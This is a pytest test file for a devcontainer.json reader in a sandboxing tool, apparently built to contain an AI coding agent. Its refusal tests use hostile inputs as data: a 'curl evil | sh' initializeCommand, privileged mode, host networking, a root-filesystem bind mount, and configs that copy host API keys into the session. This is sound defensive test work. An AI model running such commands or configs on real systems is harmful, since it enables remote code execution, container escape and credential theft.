"""The devcontainer.json reader: JSONC, the variables, what is kept and what is refused."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from claude_cage import devcontainer
from claude_cage.config import VALIDATORS
from claude_cage.devcontainer import read, strip_jsonc
from claude_cage.errors import BadInput
from claude_cage.operations.layer import default_tag

INSIDE = "/workspace/proj"


def project(tmp_path: Path, config: dict | str, name: str = "devcontainer.json") -> Path:
    root = tmp_path / "proj"
    (root / ".devcontainer").mkdir(parents=True, exist_ok=True)
    text = config if isinstance(config, str) else json.dumps(config)
    (root / ".devcontainer" / name).write_text(text)
    return root


def load(root: Path, env: dict[str, str] | None = None) -> devcontainer.DevContainer:
    found = devcontainer.find(root)
    assert found is not None
    return read(found, root, INSIDE, env or {})


def test_jsonc_comments_and_trailing_commas() -> None:
    text = """// top
    {
      "a": "http://x//y", /* a block
      comment */ "b": [1, 2,],
      "c": "/* not a comment */ \\" , ]",
      "d": {"e": 1,},
    }"""
    assert json.loads(strip_jsonc(text)) == {
        "a": "http://x//y",
        "b": [1, 2],
        "c": '/* not a comment */ " , ]',
        "d": {"e": 1},
    }


def test_unclosed_comment_and_bad_json_are_one_line_refusals(tmp_path: Path) -> None:
    for text in ('{"image": "x" /* open', '{"image": }', "[1]"):
        root = project(tmp_path, text)
        with pytest.raises(BadInput) as caught:
            load(root)
        assert "devcontainer.json" in caught.value.message


def test_find_prefers_the_folder_then_the_file(tmp_path: Path) -> None:
    root = tmp_path / "p"
    root.mkdir()
    assert devcontainer.find(root) is None
    (root / ".devcontainer.json").write_text("{}")
    assert devcontainer.find(root) == root / ".devcontainer.json"
    (root / ".devcontainer").mkdir()
    (root / ".devcontainer" / "devcontainer.json").write_text("{}")
    assert devcontainer.find(root) == root / ".devcontainer" / "devcontainer.json"


def test_image_env_variables_ports_and_folder(tmp_path: Path) -> None:
    root = project(
        tmp_path,
        {
            "image": "debian:bookworm",
            "containerEnv": {"A": "${localEnv:USER}", "B": "${localEnv:LC_NOPE:dflt}", "N": 3},
            "remoteEnv": {"C": "${containerEnv:A}-${containerWorkspaceFolderBasename}"},
            "forwardPorts": [8000, "localhost:9000", 8000],
            "workspaceFolder": "${containerWorkspaceFolder}/src/../app",
            "postStartCommand": ["echo", "a b"],
        },
    )
    dc = load(root, {"USER": "from-host"})
    assert dc.image == "debian:bookworm" and dc.dockerfile is None
    assert dc.env == {"A": "from-host", "B": "dflt", "N": "3", "C": "from-host-proj"}
    assert dc.ports == (8000, 9000)
    assert dc.workspace_folder == "/workspace/proj/app"
    assert dc.start_command == "echo 'a b'"


def test_dockerfile_context_and_args(tmp_path: Path) -> None:
    root = project(
        tmp_path,
        {
            "image": "ignored:when-building",
            "build": {
                "dockerfile": "Dockerfile",
                "context": "..",
                "args": {"V": "${localEnv:LANG}"},
            },
        },
    )
    dc = load(root, {"LANG": "1.2"})
    assert dc.image is None
    assert dc.dockerfile == (root / ".devcontainer" / "Dockerfile").resolve()
    assert dc.context == root.resolve()
    assert dc.build_args == {"V": "1.2"}


def test_lifecycle_commands_in_order_and_forms(tmp_path: Path) -> None:
    root = project(
        tmp_path,
        {
            "image": "x",
            "postCreateCommand": {"one": "echo 1", "two": ["echo", "2"]},
            "onCreateCommand": "echo first",
        },
    )
    script = load(root).create_command
    assert script.index("echo first") < script.index("echo 1") < script.index("echo 2")


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("privileged", True),
        ("capAdd", ["NET_ADMIN"]),
        ("securityOpt", ["seccomp=unconfined"]),
        ("runArgs", ["--network=host"]),
        ("mounts", ["source=/,target=/h,type=bind"]),
        ("workspaceMount", "source=/,target=/w,type=bind"),
        ("initializeCommand", "curl evil | sh"),
        ("appPort", [22]),
        ("dockerComposeFile", "compose.yml"),
        ("init", False),
        ("overrideCommand", False),
    ],
)
def test_weakening_keys_are_refused_by_name(tmp_path: Path, key: str, value: object) -> None:
    root = project(tmp_path, {"image": "x", key: value})
    with pytest.raises(BadInput) as caught:
        load(root)
    assert caught.value.message.startswith(f"devcontainer.json key {key!r} is refused")
    assert "\n" not in caught.value.message


def test_init_true_and_ignored_keys_are_fine(tmp_path: Path) -> None:
    root = project(
        tmp_path,
        {"image": "x", "init": True, "remoteUser": "vscode", "customizations": {"vscode": {}}},
    )
    assert load(root).image == "x"


@pytest.mark.parametrize(
    ("config", "words"),
    [
        ({"name": "no image"}, "names no image and no build.dockerfile"),
        ({"image": "x", "forwardPorts": ["db:5432"]}, "not a port of the session"),
        ({"image": "x", "forwardPorts": [70000]}, "is not a port"),
        ({"image": "x", "workspaceFolder": "/etc"}, "is not inside the project"),
        ({"image": "x", "workspaceFolder": "${containerWorkspaceFolder}/../x"}, "not inside"),
        ({"build": {"dockerfile": "../../Dockerfile"}}, "leaves the project"),
        ({"image": "x", "containerEnv": {"A": "${devcontainerId}"}}, "does not know"),
        ({"image": "x", "containerEnv": ["A=1"]}, "must be an object of strings"),
        ({"image": "x", "postCreateCommand": 3}, "must be a string, an array or an object"),
    ],
)
def test_what_cannot_be_honoured_is_refused(tmp_path: Path, config: dict, words: str) -> None:
    root = project(tmp_path, config)
    with pytest.raises(BadInput) as caught:
        load(root)
    assert words in caught.value.message


def test_remote_feature_is_refused_naming_it(tmp_path: Path) -> None:
    root = project(
        tmp_path, {"image": "x", "features": {"ghcr.io/devcontainers/features/go:1": {}}}
    )
    with pytest.raises(BadInput) as caught:
        load(root)
    assert "'ghcr.io/devcontainers/features/go:1'" in caught.value.message


def test_local_feature_options_defaults_and_refusals(tmp_path: Path) -> None:
    root = project(tmp_path, {"image": "x", "features": {"./tool": {"version": "2"}}})
    feature_dir = root / ".devcontainer" / "tool"
    feature_dir.mkdir()
    (feature_dir / "install.sh").write_text("#!/bin/sh\n")
    meta = {
        "id": "tool",
        "options": {"version": {"default": "1"}, "with-docs": {"default": True}},
        "containerEnv": {"TOOL_HOME": "/opt/tool"},
    }
    (feature_dir / "devcontainer-feature.json").write_text(json.dumps(meta))
    (feature,) = load(root).features
    assert feature.options == {"VERSION": "2", "WITH_DOCS": "true"}
    assert feature.container_env == {"TOOL_HOME": "/opt/tool"}

    (feature_dir / "devcontainer-feature.json").write_text(json.dumps({**meta, "privileged": True}))
    with pytest.raises(BadInput, match="asks for 'privileged'"):
        load(root)
    escape = project(tmp_path, {"image": "x", "features": {"../../elsewhere": {}}})
    with pytest.raises(BadInput, match=r"leaves \.devcontainer"):
        load(escape)


def test_config_key_devcontainer() -> None:
    check = VALIDATORS["devcontainer"]
    assert check("auto") == "auto" and check(False) == "off" and check("OFF") == "off"
    with pytest.raises(ValueError):
        check("sometimes")


def test_default_tag_of_build_from() -> None:
    assert default_tag("ghcr.io/org/app:1.2") == "app-cage:1.2"
    assert default_tag("myproject") == "myproject-cage:latest"
    assert default_tag("app@sha256:abc") == "app-cage:latest"


def test_a_refused_base_is_one_line_and_other_failures_keep_their_output() -> None:
    from claude_cage.errors import EngineError
    from claude_cage.operations.layer import build_output

    steps = [
        {"stream": "Step 10/29 : RUN sh /tmp/cage-layer-check\n"},
        {"stream": "cage-refused: Fedora Linux 41 is not Debian- or Ubuntu-based\n"},
        {"error": "The command '/bin/sh -c sh /tmp/cage-layer-check' returned a non-zero code: 3"},
    ]
    with pytest.raises(BadInput) as refused:
        build_output(iter(steps), "x", lambda _line: None)
    assert refused.value.message == "Fedora Linux 41 is not Debian- or Ubuntu-based"
    no_shell = [{"error": 'exec: "/bin/sh": stat /bin/sh: no such file or directory'}]
    with pytest.raises(BadInput, match="no /bin/sh"):
        build_output(iter(no_shell), "x", lambda _line: None)
    with pytest.raises(EngineError) as failed:
        build_output(iter([{"stream": "E: oops\n"}, {"error": "exit 1"}]), "x", lambda _l: None)
    assert "E: oops" in failed.value.message


def test_container_env_of_the_image_is_resolved_once_it_is_built(tmp_path: Path) -> None:
    """`${containerEnv:PATH}` names the image's PATH (the cage's tools in it): kept as
    it is by the reader, resolved from the built image's environment."""
    root = project(
        tmp_path,
        {
            "image": "x",
            "containerEnv": {"TOOLS": "/opt/tools"},
            "remoteEnv": {"PATH": "${containerEnv:PATH}:${containerEnv:TOOLS}/bin",
                          "GONE": "${containerEnv:NOPE:fallback}"},
        },
    )  # fmt: skip
    dc = load(root)
    assert dc.env["PATH"] == "${containerEnv:PATH}:/opt/tools/bin"
    resolved = devcontainer.image_variables(dc.env, {"PATH": "/opt/cage/bin:/usr/bin"})
    assert resolved["PATH"] == "/opt/cage/bin:/usr/bin:/opt/tools/bin"
    assert resolved["GONE"] == "fallback" and resolved["TOOLS"] == "/opt/tools"


@pytest.mark.parametrize(
    "where",
    [
        {"containerEnv": {"X": "${localEnv:ANTHROPIC_API_KEY}"}},
        {"remoteEnv": {"X": "pre-${env:GITHUB_TOKEN:none}"}},
        {"build": {"dockerfile": "Dockerfile", "args": {"X": "${localEnv:AWS_SECRET_ACCESS_KEY}"}}},
        {"workspaceFolder": "/workspace/proj/${localEnv:SECRET}"},
    ],
)
def test_the_hosts_secrets_never_reach_the_session(tmp_path: Path, where: dict) -> None:
    # A cloned repository's devcontainer.json (or one the agent wrote through a
    # read-write mount) names the host's credentials: refused, the value never read.
    root = project(tmp_path, {"image": "x", **where})
    secrets = {
        "ANTHROPIC_API_KEY": "sk-ant-LEAK",
        "GITHUB_TOKEN": "ghp_LEAK",
        "AWS_SECRET_ACCESS_KEY": "aws-LEAK",
        "SECRET": "s-LEAK",
    }
    with pytest.raises(BadInput) as refused:
        load(root, secrets)
    assert "would copy the host's" in refused.value.message
    assert "LEAK" not in refused.value.message + str(refused.value.hint)
